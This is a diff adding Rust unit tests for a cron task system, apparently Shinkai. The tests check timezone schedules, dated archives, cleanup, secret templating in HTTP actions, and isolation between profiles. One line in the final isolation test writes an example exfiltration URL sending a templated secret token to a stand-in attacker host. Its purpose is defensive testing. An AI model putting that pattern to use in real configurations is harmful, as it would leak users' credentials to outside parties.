@@ -193,6 +193,7 @@ mod tests {
             crawl_links: false,
             created_at: Utc::now().to_rfc3339().to_string(),
             llm_provider_id: "agent_id1".to_string(),
+            timezone: None,
         };
 
         let current_time = Utc::now();
@@ -207,6 +208,7 @@ mod tests {
             crawl_links: false,
             created_at: Utc::now().to_rfc3339().to_string(),
             llm_provider_id: "agent_id2".to_string(),
+            timezone: None,
         };
 
         let cron_time_interval = 120; // Check if the cron task should execute within the next 2 minutes
@@ -221,4 +223,207 @@ mod tests {
             "Expected should_execute_cron_task to return false for a cron task that should not execute within the next 2 minutes"
         );
     }
+
+    #[test]
+    fn test_cron_schedule_preview_respects_the_timezone() {
+        use chrono::{TimeZone, Utc};
+
+        let after = Utc.with_ymd_and_hms(2024, 3, 29, 12, 0, 0).unwrap();
+        let preview = CronManager::preview_schedule("0 8 * * *", Some("Europe/Paris"), after, 3).unwrap();
+        let next_runs: Vec<String> = preview.next_runs.iter().map(|run| run.to_rfc3339()).collect();
+
+        // Daylight saving time starts on the 31st, the task keeps running at 8 local time
+        assert_eq!(
+            next_runs,
+            vec![
+                "2024-03-30T08:00:00+01:00",
+                "2024-03-31T08:00:00+02:00",
+                "2024-04-01T08:00:00+02:00",
+            ]
+        );
+        assert_eq!(preview.timezone, "Europe/Paris");
+
+        let utc = CronManager::preview_schedule("0 8 * * *", None, after, 1).unwrap();
+        assert_eq!(utc.next_runs[0].to_rfc3339(), "2024-03-30T08:00:00+00:00");
+        assert!(CronManager::preview_schedule("0 8 * * *", Some("Mars/Olympus"), after, 1).is_err());
+    }
+
+    #[test]
+    fn test_cron_task_archive_files_are_dated() {
+        use chrono::{TimeZone, Utc};
+        use shinkai_message_primitives::shinkai_message::shinkai_message_schemas::{
+            CronArchiveFormat, CronTaskArchive,
+        };
+        use shinkai_node::{cron_tasks::cron_archive::CronArchiver, db::db_cron_task_archive::CronArchiveRun};
+
+        let mut run = CronArchiveRun {
+            profile: "@@localhost.shinkai/main".to_string(),
+            task_id: "daily news".to_string(),
+            prompt: "Summarize the news".to_string(),
+            archive: CronTaskArchive {
+                folder: "/reports".to_string(),
+                format: CronArchiveFormat::Markdown,
+                max_files: Some(30),
+            },
+        };
+        let run_at = Utc.with_ymd_and_hms(2024, 5, 1, 8, 0, 0).unwrap();
+
+        let (file_name, content) = CronArchiver::archive_file(&run, "job_1", "  Nothing happened.\n", run_at);
+        assert_eq!(file_name, "daily_news_2024-05-01_08-00-00.md");
+        assert_eq!(
+            String::from_utf8(content).unwrap(),
+            "# Summarize the news\n\n- Task: daily news\n- Run: 2024-05-01T08:00:00+00:00\n- Job: job_1\n\nNothing happened.\n"
+        );
+
+        run.archive.format = CronArchiveFormat::Json;
+        let (file_name, content) = CronArchiver::archive_file(&run, "job_1", "Nothing happened.", run_at);
+        assert_eq!(file_name, "daily_news_2024-05-01_08-00-00.json");
+        let content: serde_json::Value = serde_json::from_slice(&content).unwrap();
+        assert_eq!(content["output"], "Nothing happened.");
+        assert_eq!(content["run_at"], "2024-05-01T08:00:00+00:00");
+    }
+
+    #[test]
+    fn test_cron_task_archive_is_removed_with_the_task() {
+        use shinkai_message_primitives::shinkai_message::shinkai_message_schemas::{
+            CronArchiveFormat, CronTaskArchive,
+        };
+
+        setup();
+        let db = ShinkaiDB::new("db_tests/").unwrap();
+        let profile = ShinkaiName::new("@@localhost.shinkai/main".to_string()).unwrap();
+        db.add_cron_task(
+            profile.clone(),
+            "task1".to_string(),
+            "0 8 * * *".to_string(),
+            "prompt1".to_string(),
+            "subprompt1".to_string(),
+            "url1".to_string(),
+            false,
+            "agent_id1".to_string(),
+        )
+        .unwrap();
+
+        let archive = CronTaskArchive {
+            folder: "/reports".to_string(),
+            format: CronArchiveFormat::Json,
+            max_files: None,
+        };
+        db.set_cron_task_archive(&profile, "task1", Some(&archive)).unwrap();
+        db.set_cron_task_archived_files("main", "task1", &["/reports/task1_2024-05-01_08-00-00".to_string()])
+            .unwrap();
+        assert_eq!(db.get_cron_task_archive("main", "task1").unwrap(), Some(archive));
+
+        db.remove_cron_task(profile, "task1".to_string()).unwrap();
+        assert_eq!(db.get_cron_task_archive("main", "task1").unwrap(), None);
+        assert!(db.get_cron_task_archived_files("main", "task1").unwrap().is_empty());
+    }
+
+    #[test]
+    fn test_cron_task_conversation_keeps_the_context_window_of_its_job() {
+        use shinkai_message_primitives::shinkai_message::shinkai_message_schemas::CronTaskConversation;
+
+        setup();
+        let db = ShinkaiDB::new("db_tests/").unwrap();
+        let profile = ShinkaiName::new("@@localhost.shinkai/main".to_string()).unwrap();
+        db.add_cron_task(
+            profile.clone(),
+            "task1".to_string(),
+            "0 8 * * *".to_string(),
+            "prompt1".to_string(),
+            "subprompt1".to_string(),
+            "url1".to_string(),
+            false,
+            "agent_id1".to_string(),
+        )
+        .unwrap();
+
+        let conversation = CronTaskConversation { context_window: 3 };
+        db.set_cron_task_conversation(&profile, "task1", Some(&conversation))
+            .unwrap();
+        let state = db.get_cron_task_conversation("main", "task1").unwrap().unwrap();
+        assert_eq!(state.job_id, None);
+
+        db.set_cron_task_conversation_job("main", "task1", "job1", 3).unwrap();
+        assert_eq!(db.get_job_context_window("job1").unwrap(), Some(3));
+        // A new window applies to the runs already in the job
+        db.set_cron_task_conversation(&profile, "task1", Some(&CronTaskConversation { context_window: 5 }))
+            .unwrap();
+        assert_eq!(db.get_job_context_window("job1").unwrap(), Some(5));
+        let state = db.get_cron_task_conversation("main", "task1").unwrap().unwrap();
+        assert_eq!(state.job_id, Some("job1".to_string()));
+
+        db.remove_cron_task(profile, "task1".to_string()).unwrap();
+        assert_eq!(db.get_cron_task_conversation("main", "task1").unwrap(), None);
+        assert_eq!(db.get_job_context_window("job1").unwrap(), None);
+    }
+
+    #[test]
+    fn test_cron_task_http_request_action_and_secrets() {
+        use shinkai_message_primitives::shinkai_message::shinkai_message_schemas::{
+            CronHttpRequestAction, CronTaskAction,
+        };
+
+        setup();
+        let db = ShinkaiDB::new("db_tests/").unwrap();
+        let profile = ShinkaiName::new("@@localhost.shinkai/main".to_string()).unwrap();
+        db.add_cron_task(
+            profile.clone(),
+            "task1".to_string(),
+            "*/15 * * * *".to_string(),
+            "prompt1".to_string(),
+            "subprompt1".to_string(),
+            "url1".to_string(),
+            false,
+            "agent_id1".to_string(),
+        )
+        .unwrap();
+
+        let action = CronTaskAction::HttpRequest(CronHttpRequestAction {
+            method: "GET".to_string(),
+            url: "https://api.example.com/status".to_string(),
+            headers: [("Authorization".to_string(), "Bearer {{secret:API_TOKEN}}".to_string())]
+                .into_iter()
+                .collect(),
+            body: None,
+            prompt: Some("Tell me if anything changed: {{response}}".to_string()),
+        });
+        db.set_cron_task_action(&profile, "task1", Some(&action)).unwrap();
+        assert_eq!(db.get_cron_task_action("main", "task1").unwrap(), Some(action));
+
+        db.set_cron_secret(&profile, "API_TOKEN", Some("abc123")).unwrap();
+        assert_eq!(db.get_cron_secret("main", "API_TOKEN").unwrap(), Some("abc123".to_string()));
+        db.set_cron_secret(&profile, "API_TOKEN", None).unwrap();
+        assert_eq!(db.get_cron_secret("main", "API_TOKEN").unwrap(), None);
+
+        db.remove_cron_task(profile, "task1".to_string()).unwrap();
+        assert_eq!(db.get_cron_task_action("main", "task1").unwrap(), None);
+    }
+
+    #[test]
+    fn test_cron_secrets_are_not_shared_between_overlapping_profiles() {
+        use shinkai_message_primitives::shinkai_message::shinkai_message_schemas::{
+            CronHttpRequestAction, CronTaskAction,
+        };
+
+        setup();
+        let db = ShinkaiDB::new("db_tests/").unwrap();
+        let main = ShinkaiName::new("@@localhost.shinkai/main".to_string()).unwrap();
+        let main_x = ShinkaiName::new("@@localhost.shinkai/main_x".to_string()).unwrap();
+
+        db.set_cron_secret(&main_x, "TOKEN", Some("abc123")).unwrap();
+        assert_eq!(db.get_cron_secret("main", "x_TOKEN").unwrap(), None);
+        assert_eq!(db.get_cron_secret("main_x", "TOKEN").unwrap(), Some("abc123".to_string()));
+
+        let action = CronTaskAction::HttpRequest(CronHttpRequestAction {
+            method: "GET".to_string(),
+            url: "https://attacker.example.com/?token={{secret:TOKEN}}".to_string(),
+            headers: Default::default(),
+            body: None,
+            prompt: None,
+        });
+        db.set_cron_task_action(&main, "x_daily", Some(&action)).unwrap();
+        assert_eq!(db.get_cron_task_action("main_x", "daily").unwrap(), None);
+        assert_eq!(db.get_cron_task_action("main", "x_daily").unwrap(), Some(action));
+    }
 }